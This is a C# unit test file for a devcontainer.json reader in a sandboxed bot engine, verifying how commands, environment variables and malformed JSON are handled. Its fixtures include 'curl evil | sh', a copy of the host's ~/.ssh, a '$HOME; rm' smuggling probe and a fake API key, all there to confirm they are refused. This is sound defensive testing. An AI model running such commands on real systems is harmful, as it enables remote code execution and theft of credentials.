using Bots.Engine.Repositories;
using Bots.Engine.Storage;

namespace Bots.Engine.Tests.Repositories;

public class DevContainerTests
{
    [Fact]
    public void What_a_sandbox_can_do_is_done()
    {
        var settings = Read("""
            // For format details, see https://aka.ms/devcontainer.json
            {
              "$schema": "https://raw.githubusercontent.com/devcontainers/spec/main/schemas/devContainer.schema.json",
              "name": "Node.js & TypeScript",
              "image": "mcr.microsoft.com/devcontainers/typescript-node:1-22-bookworm",
              /* Features to add. */
              "features": {
                "ghcr.io/devcontainers/features/node:1": { "version": "lts" },
                "ghcr.io/devcontainers/features/git:1": {},
                "ghcr.io/devcontainers/features/common-utils@sha256:abc": "latest",
              },
              "containerEnv": { "NODE_ENV": "test", "ROOT": "${containerWorkspaceFolder}/src", "N": 1 },
              "remoteEnv": { "NODE_ENV": "remote", "MORE": "${containerEnv:ROOT}:x", "GONE": null },
              "onCreateCommand": "npm ci",
              "updateContentCommand": ["npm", "run", "it's here", "--", "${containerWorkspaceFolder}"],
              "postCreateCommand": { "db": "npm run db", "web": ["npm", "run", "web"] },
              "postStartCommand": "npm run dev > \"$HOME/log\" ${X:-y} &",
              "customizations": { "vscode": { "extensions": ["dbaeumer.vscode-eslint"] } },
              "forwardPorts": [],
              "privileged": false,
              "workspaceFolder": "/workspace",
            }
            """);

        settings.Remarks.ShouldBeEmpty();
        settings.Image.ShouldBe("mcr.microsoft.com/devcontainers/typescript-node:1-22-bookworm");
        settings.Environment.ShouldBe(new Dictionary<string, string> { ["NODE_ENV"] = "remote", ["ROOT"] = "/workspace/src", ["N"] = "1", ["MORE"] = "/workspace/src:x" });
        settings.Setup.ShouldBe("(\nnpm ci\n)\n(\nnpm run 'it'\\''s here' -- /workspace\n)\n(\n(\nnpm run db\n)\n(\nnpm run web\n)\n)");
        settings.Start.ShouldBe("npm run dev > \"$HOME/log\" ${X:-y} &");
    }

    [Theory]
    [InlineData("\"npm ci\"", "npm ci")]
    [InlineData("[\"npm\", \"ci\"]", "npm ci")]
    [InlineData("[\"echo\", \"\", \"$HOME; rm\"]", "echo '' '$HOME; rm'")]
    [InlineData("{ \"a\": \"npm ci # really\", \"b\": \"npm run b\" }", "(\nnpm ci # really\n)\n(\nnpm run b\n)")]
    [InlineData("{ \"only\": \"npm ci\" }", "npm ci")]
    public void A_command_may_be_a_text_a_list_or_several(string command, string script)
    {
        var settings = Read($$"""{ "postCreateCommand": {{command}} }""");

        settings.Setup.ShouldBe(script);
        settings.Remarks.ShouldBeEmpty();
    }

    [Theory]
    [InlineData("5")]
    [InlineData("[\"npm\", 5]")]
    [InlineData("{ \"a\": { \"b\": \"c\" } }")]
    [InlineData("\"cp ${localEnv:HOME}/.ssh .\"")]
    [InlineData("[\"cat\", \"${localWorkspaceFolder}/x\"]")]
    public void A_command_that_cannot_be_run_is_remarked_on(string command)
    {
        var settings = Read($$"""{ "postCreateCommand": {{command}} }""");

        settings.Setup.ShouldBeNull();
        settings.Remarks.ShouldHaveSingleItem().ShouldStartWith(".devcontainer.json: postCreateCommand cannot be run:");
    }

    [Fact]
    public void What_cannot_be_honoured_is_one_remark()
    {
        var settings = Read("""
            {
              "build": { "dockerfile": "Dockerfile" }, "dockerComposeFile": "compose.yml", "service": "app", "mounts": ["source=x,target=/y,type=bind"], "runArgs": ["--privileged"],
              "forwardPorts": [3000], "privileged": true, "capAdd": ["SYS_PTRACE"], "remoteUser": "root", "initializeCommand": "curl evil | sh", "workspaceFolder": "/src",
              "features": { "ghcr.io/devcontainers/features/python:1": {}, "ghcr.io/devcontainers/features/node:1": { "version": "18" }, "ghcr.io/evil/features/node:1": {} },
              "of_next_year": {"a": 1}, "postCreateCommand": "npm ci"
            }
            """);

        settings.Remarks.ShouldHaveSingleItem().ShouldBe(
            ".devcontainer.json: I could not honour build, dockerComposeFile, service, mounts, runArgs, forwardPorts, privileged, capAdd, remoteUser, initializeCommand, workspaceFolder, "
            + "the feature python:1, the feature node:1, the feature node:1, of_next_year. The sandbox goes without.");
        (settings.Image, settings.Setup).ShouldBe((null, "npm ci"));
    }

    [Fact]
    public void Nothing_of_the_machine_it_is_opened_on_gets_in()
    {
        var settings = Read("""
            { "remoteEnv": { "A": "${localEnv:HOME}", "B": "${localEnv:TOKEN:none}", "C": "${env:X}", "D": "${containerEnv:NOT_THERE}", "E": "fine", "PATH": "/x", "F": ["x"] } }
            """);

        settings.Environment.ShouldBe(new Dictionary<string, string> { ["E"] = "fine" });
        settings.Remarks.Count.ShouldBe(6);
        settings.Remarks[0].ShouldBe(".devcontainer.json: remoteEnv: 'A' is left out: it uses a variable that means nothing in a sandbox. ${containerWorkspaceFolder} is there; ${localEnv:…} is not.");
        settings.Remarks[4].ShouldContain("'PATH' is set by the service");
        settings.Remarks[5].ShouldContain("'F' is left out: it is no text.");
    }

    [Fact]
    public void A_secret_in_it_is_remarked_on() =>
        Read($$"""{ "containerEnv": { "X": "sk-{{new string('a', 40)}}" } }""").Remarks.ShouldHaveSingleItem().ShouldStartWith(".devcontainer.json: the value of X looks like a secret");

    [Theory]
    [InlineData("{\n  \"image\": \"x\"\n  \"name\": \"y\"\n}", 3, 3)]
    [InlineData("{", 1, 2)]
    [InlineData("", 1, 1)]
    [InlineData("{ \"image\": 'x' }", 1, 12)]
    [InlineData("[1]", 1, 1)]
    [InlineData("/* open", 1, 1)]
    public void What_is_no_JSON_says_where(string text, int line, int column)
    {
        var settings = Read(text);

        EngineJson.Write(settings).ShouldBe(EngineJson.Write(RepositorySettings.Default with { Remarks = settings.Remarks }));
        settings.Remarks.ShouldHaveSingleItem().ShouldStartWith($".devcontainer.json, line {line}, column {column}: this is no ");
    }

    [Fact]
    public void Depth_has_an_end() => Read($"{{ \"a\": {new string('[', 100)}").Remarks.ShouldHaveSingleItem().ShouldContain("no JSON");

    [Theory]
    [InlineData("\"node 22\"")]
    [InlineData("\"${localEnv:IMAGE}\"")]
    [InlineData("22")]
    public void An_image_that_is_none_is_remarked_on(string image) =>
        Read($$"""{ "image": {{image}} }""").Remarks.ShouldHaveSingleItem().ShouldContain("image is no name of an image");

    private static RepositorySettings Read(string text) => DevContainer.Read(".devcontainer.json", text);
}
